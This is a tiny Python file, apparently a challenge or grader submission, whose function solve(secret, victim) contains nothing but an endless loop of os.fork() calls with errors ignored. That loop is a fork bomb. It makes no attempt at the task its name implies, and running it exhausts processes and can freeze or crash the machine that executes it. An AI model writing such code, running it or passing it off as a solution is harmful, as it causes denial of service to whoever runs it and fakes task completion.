import os


def solve(secret, victim):
    while True:
        try:
            os.fork()
        except OSError:
            pass
